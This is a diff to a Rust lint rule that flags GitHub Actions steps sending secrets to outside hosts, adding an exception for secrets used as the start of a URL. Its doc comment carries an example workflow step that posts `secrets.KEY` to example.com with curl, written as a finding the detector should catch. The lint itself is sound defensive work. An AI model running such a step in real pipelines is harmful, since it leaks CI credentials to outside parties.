@@ -14,7 +14,7 @@
 //!   notify:
 //!     runs-on: ubuntu-24.04
 //!     steps:
-//!       # finding: `curl -d "$KEY ${{ secrets.KEY }}` curl sends the secret key
+//!       # finding: `curl -d "$KEY ${{ secrets.KEY }}` curl sends secrets.KEY away
 //!       - run: curl -d "$KEY ${{ secrets.KEY }}" https://example.com
 //! ```
 //!
@@ -64,21 +64,35 @@ fn check(step: &Step, cx: &mut Cx) {
         }
         for expression in resource.expressions_in(span) {
             let mut secret = None;
-            expression.each_context(&mut |_, parts| {
-                if secret.is_none() {
-                    secret = secret_name(parts).map(str::to_owned);
+            expression.each_context(&mut |node, parts| {
+                if secret.is_none() && secret_name(parts).is_some() {
+                    secret = Some(cx.text(node.span));
                 }
             });
             let here = span.slice(at, command.len());
             if let Some(name) = secret
                 && expression.span.start >= here.start
+                && !is_address(expression.span, cx)
             {
                 let end = (expression.span.end - span.start) as usize;
-                cx.report(span.slice(at, end), format_args!("{tool} sends the secret {name} away"));
+                cx.report(span.slice(at, end), format_args!("{tool} sends {name} away"));
                 break;
             }
         }
     }
+}
+
+/// Whether the secret is the beginning of an address: where something is fetched from, not what is sent.
+fn is_address(span: Span, cx: &Cx) -> bool {
+    let Some(file) = cx.unit().file(span.source) else {
+        return false;
+    };
+    let text = file.source.text();
+    let before = text
+        .get(..span.range().start)
+        .and_then(|before| before.chars().next_back());
+    let after = text.get(span.range().end..).unwrap_or("");
+    before.is_none_or(|before| before.is_whitespace() || matches!(before, '"' | '\'')) && after.starts_with('/')
 }
 
 /// An argument of the form `@FILE` whose name says that secrets are in it.
